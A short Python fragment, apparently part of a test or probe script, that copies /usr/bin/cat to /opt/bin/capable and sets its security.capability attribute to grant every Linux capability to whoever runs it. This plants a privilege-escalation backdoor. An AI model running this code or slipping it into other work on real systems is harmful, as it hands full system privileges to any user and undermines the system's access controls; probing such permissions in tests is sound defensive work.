# Plants a program whose file gives every capability to whoever runs it.

import shutil
import struct

shutil.copy("/usr/bin/cat", "/opt/bin/capable")
VERSION_2, EFFECTIVE = 0x02000000, 1
everything = struct.pack("<5I", VERSION_2 | EFFECTIVE, 0xFFFFFFFF, 0, 0x1FF, 0)
path = "/opt/bin/capable"
answer("set", attempt(os.setxattr, path, "security.capability", everything))
